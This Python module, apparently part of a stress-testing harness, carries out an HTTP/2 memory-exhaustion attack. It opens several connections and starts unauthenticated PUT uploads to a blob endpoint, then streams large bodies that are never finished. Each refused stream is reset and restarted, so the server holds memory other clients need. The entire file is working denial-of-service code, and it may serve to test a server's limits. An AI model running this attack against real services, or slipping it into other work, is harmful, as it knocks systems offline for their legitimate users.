"""A stranger without a token puts blobs, in many streams at once, and never ends a body: what is kept of them is memory that
somebody else does not get."""
import socket
import struct
import time

from raw_h2 import CANCEL, DATA, END_HEADERS, HEADERS, RST_STREAM, SETTINGS, Closed, Connection, request, status_of

POINT = 7
CONNECTIONS = 5
PIECE = b"u" * 16384
BYTES_EACH = 200 << 20  # of a body, below what an upload may have
BYTES_PER_S = 400 << 20
REQUESTS_PER_S = 2000


class Upload:
    def __init__(self, target):
        self.connection = Connection(target.h2c or target.tls, tls=target.h2c is None, timeout_s=5)
        self.window, self.rest_of_connection, self.sent = 0, 65535, 0
        self.stream = self.status = None

    def begin(self):
        self.window, self.sent, self.status = 65535, 0, None
        self.stream = self.connection.headers(request("/api/v1/blobs/" + "00" * 32, "PUT"), END_HEADERS)

    def listen(self):
        """What has come so far, without waiting."""
        self.connection.socket.settimeout(0.001)
        try:
            while True:
                frame = self.connection.read()
                if frame.kind == 8 and frame.stream in (0, self.stream):
                    amount = struct.unpack(">I", frame.payload)[0]
                    if frame.stream == 0:
                        self.rest_of_connection += amount
                    else:
                        self.window += amount
                elif frame.kind == SETTINGS and not frame.flags & 1:
                    self.connection.frame(SETTINGS, 1, 0)
                elif frame.kind == HEADERS and frame.stream == self.stream:
                    self.status = status_of(frame.payload)
                elif frame.kind == RST_STREAM and frame.stream == self.stream and self.status is None:
                    self.status = 0
        except (TimeoutError, socket.timeout, BlockingIOError):
            pass
        finally:
            self.connection.socket.settimeout(5)

    def push(self):
        """One piece of the body; how many bytes went."""
        size = min(len(PIECE), self.window, self.rest_of_connection, BYTES_EACH - self.sent)
        if size <= 0:
            return 0
        self.connection.frame(DATA, 0, self.stream, PIECE[:size])
        self.window -= size
        self.rest_of_connection -= size
        self.sent += size
        return size


def step(upload, counts):
    upload.listen()
    if upload.stream is None or upload.status is not None:
        if upload.status is not None:
            counts["refused"] += 1
            counts[str(upload.status)] = counts.get(str(upload.status), 0) + 1
            upload.connection.frame(RST_STREAM, 0, upload.stream, struct.pack(">I", CANCEL))
        upload.begin()
        counts["requests"] += 1
        upload.listen()
    return 0 if upload.status is not None else sum(upload.push() for _ in range(16))


def attack(target, stop):
    counts = {"requests": 0, "refused": 0, "bytes": 0, "connections_lost": 0}
    uploads = []
    began = time.monotonic()
    while not stop.is_set():
        while len(uploads) < CONNECTIONS:
            try:
                uploads.append(Upload(target))
            except OSError:  # nobody listens just now
                counts["connections_lost"] += 1
                break
        for upload in list(uploads):
            try:
                counts["bytes"] += step(upload, counts)
            except (Closed, OSError):
                uploads.remove(upload)
                counts["connections_lost"] += 1
        ahead = (counts["bytes"] / BYTES_PER_S + counts["requests"] / REQUESTS_PER_S) / target.share - (time.monotonic() - began)
        stop.wait(max(ahead, 0.002))
    for upload in uploads:
        upload.connection.socket.close()
    return counts
